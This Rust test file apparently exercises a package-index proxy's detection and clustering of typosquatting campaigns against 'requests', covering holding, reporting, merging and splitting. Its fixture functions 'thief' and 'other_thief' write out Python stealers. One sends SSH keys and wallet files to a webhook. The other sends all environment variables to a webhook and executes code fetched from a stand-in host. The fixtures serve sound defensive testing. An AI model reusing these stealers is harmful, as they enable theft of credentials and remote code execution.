//! A wave of lookalikes is one campaign: its later members are held as they arrive, also those in which
//! nothing is found, and what is honest is not.

use fondaco_testkit::{Dist, Run, Sdist, Upload, Wheel, honest_module};
use serde_json::Value;

use crate::house::{House, path};

/// The breaker would stop such a wave by its account first.
const ALONE: &str = "[breaker]\nmode = 'off'\n";

/// Names that are taken for `requests`.
const LOOKALIKES: [&str; 10] = [
    "reqeusts",
    "requestss",
    "requets",
    "rrequests",
    "requeests",
    "requsts",
    "reqests",
    "requesst",
    "reqquests",
    "reuqests",
];

/// Where stolen things are sent to.
fn hook(id: u64) -> String {
    format!("https://discord.com/api/webhooks/{id}/abcdefghijklmnopqrstuvwxyz")
}

/// Where stolen money goes.
fn wallet(id: u64) -> String {
    format!("ask on discord, pay 0x{:040x}", u128::from(id) * 0x1fff_ffff_ffff_fffb)
}

/// A thief, written a little differently each time.
fn thief(name: &str, number: usize, id: u64) -> Dist {
    let code = format!(
        "import os, requests\n# release {number}\nPLACE_{number} = '{}'\nWANTED_{number} = [os.getenv('APPDATA') + \
         '\\\\Exodus\\\\exodus.wallet', os.path.expanduser('~/.ssh/id_rsa')]\nfor each_{number} in WANTED_{number}:\n    \
         requests.post(PLACE_{number}, files={{'f': open(each_{number}, 'rb')}})\nTIP = '{}'\n\
         requests.get('https://drop{}.example.invalid/')\n",
        hook(id),
        wallet(id),
        id
    );
    Sdist::new(name, "1.0").file(&format!("{name}/__init__.py"), code).build()
}

/// A package that does nothing yet, and knows where it would.
fn sleeper(name: &str, id: u64) -> Dist {
    let code = honest_module() + &format!("\n\nADDRESS = '{}'\n", wallet(id));
    Wheel::new(name, "1.0").file(&format!("{}/__init__.py", name.replace('-', "_")), code).build()
}

/// `fondaco campaign ARGS`
fn campaign(house: &House, args: &[&str]) -> Run {
    let data = house.data.path().to_str().unwrap();
    house.fondaco.run(&[&["campaign"], args, &["--data", data]].concat())
}

fn campaigns(house: &House) -> Vec<Value> {
    serde_json::from_str(&campaign(house, &["list", "--format", "json"]).ok().stdout).unwrap()
}

fn id(campaign: &Value) -> String {
    campaign["id"].as_str().unwrap().to_owned()
}

/// How the upload of a file stands, and why.
fn upload(house: &House, token: &str, dist: &Dist) -> (u16, String) {
    let answer = Upload::of(dist).send(&house.fondaco, token);
    (answer.status, answer.text())
}

#[test]
fn a_wave_is_opened_and_its_later_members_are_held() {
    let house = House::with_config(ALONE);
    let token = house.fondaco.token(&["--all-projects"]);
    let send = |house: &House, dist: &Dist| upload(house, &token, dist);
    // What is honest comes before, between and after.
    let boilerplate = "import os, sys\nfrom setuptools import setup, Command\nclass Publish(Command):\n    user_options = []\n    \
        def initialize_options(self):\n        pass\n    def finalize_options(self):\n        pass\n    def run(self):\n        \
        os.system('{0} setup.py sdist bdist_wheel'.format(sys.executable))\n        os.system('twine upload dist/*')\n\
        setup(name='x', cmdclass={'publish': Publish})\n";
    let honest = |name: &str| {
        Sdist::new(name, "1.0")
            .file("setup.py", boilerplate)
            .file(&format!("{}/__init__.py", name.replace('-', "_")), honest_module())
            .build()
    };
    for name in ["house-sums", "house-totals"] {
        assert_eq!(send(&house, &honest(name)).0, 200);
    }
    for (number, name) in LOOKALIKES.iter().take(3).enumerate() {
        assert_eq!(send(&house, &thief(name, number, 111_222_333_444_555_666)).0, 403);
        let opened = house.fondaco.journal().iter().any(|entry| entry["kind"] == "campaign-opened");
        assert_eq!(opened, number >= 1, "a webhook that two have is no chance");
    }
    let [found] = campaigns(&house).try_into().unwrap();
    let wave = id(&found);
    // In the others nothing is found.
    for name in &LOOKALIKES[3..] {
        let dist = sleeper(name, 111_222_333_444_555_666);
        let (status, text) = send(&house, &dist);
        assert_eq!(status, 202, "{text}");
        assert!(text.contains(&format!("held by Fondaco (part of the campaign {wave})")), "{text}");
        assert_eq!(house.fondaco.get(&format!("/simple/{name}/"), &[]).status, 404);
        assert_eq!(house.journal_of(&dist.file_name), ["file-uploaded", "file-inspected", "campaign-grew"]);
    }
    for name in ["house-forks", "house-counts"] {
        assert_eq!(send(&house, &honest(name)).0, 200, "{name}");
    }
    assert_eq!(send(&house, &sleeper("house-chat", 999_888_777_666_555_444)).0, 200, "another one's wallet");
    // An analyst sees all of it, everybody else that there is something.
    let shown = campaign(&house, &["show", &wave, "--format", "json"]).ok().stdout;
    let shown: Value = serde_json::from_str(&shown).unwrap();
    let members: Vec<&str> =
        shown["members"].as_array().unwrap().iter().map(|one| one["project"].as_str().unwrap()).collect();
    assert_eq!(members, LOOKALIKES);
    assert!(shown["members"][9]["ties"].as_array().unwrap().contains(&"wallet".into()), "{shown:#}");
    assert_eq!(shown["members"][0]["target"], "requests");
    for format in ["markdown", "csv", "osv", "stix"] {
        let told = campaign(&house, &["report", &wave, "--format", format]).ok().stdout;
        check_report(format, &told);
    }
    let told = house.fondaco.get(&format!("/api/v1/campaigns/{wave}"), &[]).json();
    assert_eq!((told["hidden"].as_u64(), told["members"].as_array().map(Vec::len)), (Some(10), Some(0)));
    let listed = house.fondaco.get("/api/v1/campaigns", &[]).json();
    assert_eq!(
        (&listed["campaigns"][0]["projects"], &listed["campaigns"][0]["state"]),
        (&10.into(), &"open".into())
    );
    for page in ["/campaigns/".to_owned(), format!("/campaigns/{wave}")] {
        let page = house.fondaco.get(&page, &[]);
        assert!(page.status == 200 && page.text().contains(&wave) && !page.text().contains("reqests"));
    }
    assert_eq!(house.fondaco.get("/campaigns/c-0000000000000000", &[]).status, 404);
    assert_eq!(house.fondaco.get("/api/v1/campaigns/nonsense", &[]).status, 404);
    // It is all there after a restart.
    let house = house.restarted();
    let late = sleeper("requests-now", 111_222_333_444_555_666);
    assert_eq!(send(&house, &late).0, 202);
    // Who knows better says so, and what was held for nothing else is served.
    campaign(&house, &["close", &wave, "--dismiss", "--reason", "a drill"]).ok();
    assert_eq!(house.fondaco.get("/simple/requests-now/", &[]).status, 200);
    assert_eq!(send(&house, &sleeper("requests-then", 111_222_333_444_555_666)).0, 200);
    let audit = house.fondaco.admin(&["audit", "--format", "ndjson"]).ok().stdout;
    assert!(audit.contains("\"action\":\"set-campaign\"") && audit.contains("a drill"), "{audit}");
}

/// What each form of a report must have: the three thieves, and nobody called malicious who isn't.
fn check_report(format: &str, told: &str) {
    let json = || serde_json::from_str::<Value>(told).unwrap();
    match format {
        "markdown" => {
            assert!(
                told.contains("| malicious | requests |") && told.contains("10 files of 10 projects"),
                "{told}"
            );
        }
        "csv" => {
            assert_eq!(told.matches("\nsha256,").count(), 10, "{told}");
            assert_eq!(told.matches("\nproject,").count(), 10, "{told}");
            assert!(!told.contains("discord.com"), "nobody should block that: {told}");
            assert!(told.contains("\ndomain,drop111222333444555666.example.invalid,reqeusts,"), "{told}");
        }
        "osv" => {
            let records = json();
            assert_eq!(records.as_array().map(Vec::len), Some(3), "{told}");
            assert_eq!(records[0]["affected"][0]["package"]["name"], "reqeusts");
            assert_eq!(records[0]["affected"][0]["versions"][0], "1.0");
        }
        _ => {
            let bundle = json();
            let objects = bundle["objects"].as_array().unwrap();
            let of = |kind: &str| objects.iter().filter(|one| one["type"] == kind).count();
            assert_eq!((of("campaign"), of("relationship")), (1, of("indicator")), "{told}");
            let pattern = |one: &&Value| one["pattern"].as_str().is_some_and(|text| text.contains("SHA-256"));
            assert_eq!(objects.iter().filter(pattern).count(), 10, "{told}");
        }
    }
}

#[test]
fn what_is_pulled_through_is_clustered_too() {
    let house = House::with_config(ALONE);
    let hook = 222_333_444_555_666_777;
    for (number, name) in LOOKALIKES.iter().take(3).enumerate() {
        let dist = thief(name, number, hook);
        house.upstream.publish(&dist).no_upload_time();
        assert_eq!(house.fondaco.get(&path(name, &dist), &[]).status, 403);
    }
    let [found] = campaigns(&house).try_into().unwrap();
    let late = sleeper("colour-sums", hook);
    house.upstream.publish(&late).no_upload_time();
    // What has been there for years is told of, and goes on being served.
    let old = sleeper("settled-sums", hook);
    house.upstream.publish(&old).uploaded("2020-01-01T00:00:00Z");
    assert_eq!(house.fondaco.get(&path("settled-sums", &old), &[]).status, 200);
    let answer = house.fondaco.get(&path("colour-sums", &late), &[]);
    assert_eq!(answer.status, 403, "{}", answer.text());
    assert!(answer.reason.contains(&format!("part of the campaign {}", id(&found))), "{}", answer.reason);
    // A ruling on the content stands above it.
    let digest = late.sha256().to_string();
    house.fondaco.admin(&["allow", &digest, "--reason", "looked at"]).ok();
    assert_eq!(house.fondaco.get(&path("colour-sums", &late), &[]).status, 200);
    let told = house.fondaco.get(&format!("/api/v1/campaigns/{}", id(&found)), &[]).json();
    assert_eq!((told["members"].as_array().map(Vec::len), told["hidden"].as_u64()), (Some(5), Some(0)));
}

#[test]
fn what_an_analyst_decides_is_kept_by_a_running_server() {
    let house = House::with_config(ALONE);
    // Two accounts: what one uploads is tied by that.
    let token = house.fondaco.token(&["--all-projects"]);
    let others = house.fondaco.token(&["--all-projects"]);
    let (one, other) = (333_444_555_666_777_888, 444_555_666_777_888_999);
    for (number, name) in LOOKALIKES.iter().enumerate().take(6) {
        let (id, token) = if number < 3 { (one, &token) } else { (other, &others) };
        // What they do differs, or the code alone would tie them.
        let dist = if number < 3 { thief(name, number, id) } else { other_thief(name, id) };
        assert_eq!(upload(&house, token, &dist).0, 403, "{name}");
    }
    let all = campaigns(&house);
    assert_eq!(all.len(), 2, "{all:#?}");
    let (second, first) = (id(&all[0]), id(&all[1]));
    campaign(&house, &["merge", &first, &second, "--reason", "one hand"]).ok();
    let (_, text) = upload(&house, &token, &sleeper("house-new", other));
    assert!(text.contains(&format!("part of the campaign {first}")), "{text}");
    let mut split = vec!["split", &first, "--reason", "two hands after all"];
    split.extend(&LOOKALIKES[3..6]);
    split.push("house-new");
    let apart = campaign(&house, &split).ok().stdout;
    let apart = apart.split_whitespace().next().unwrap().to_owned();
    let (_, text) = upload(&house, &token, &sleeper("house-newer", other));
    assert!(text.contains(&format!("part of the campaign {apart}")), "{text}");
    let (_, text) = upload(&house, &token, &sleeper("house-newest", one));
    assert!(text.contains(&format!("part of the campaign {first}")), "{text}");
    let wrong = campaign(&house, &["split", &first, "nobody", "--reason", "x"]);
    assert!(
        !wrong.success() && wrong.text().contains("nobody has no file in that campaign"),
        "{}",
        wrong.text()
    );
    let wrong = campaign(&house, &["merge", &first, &second, "--reason", "x"]);
    assert!(!wrong.success() && wrong.text().contains("there is no campaign"), "{}", wrong.text());
}

/// Another thief.
fn other_thief(name: &str, id: u64) -> Dist {
    let number = id % 1000;
    let code = format!(
        "import json, os, urllib.request\ndef go():\n    body = json.dumps(dict(os.environ)).encode()\n    \
         request = urllib.request.Request('{}', data=body, headers={{'Content-Type': 'application/json'}})\n    \
         urllib.request.urlopen(request)\n    exec(urllib.request.urlopen('https://{number}.example.invalid/s').read())\nTIP = '{}'\ngo()\n",
        hook(id),
        wallet(id)
    );
    Sdist::new(name, "1.0").file(&format!("{name}/__init__.py"), code).build()
}
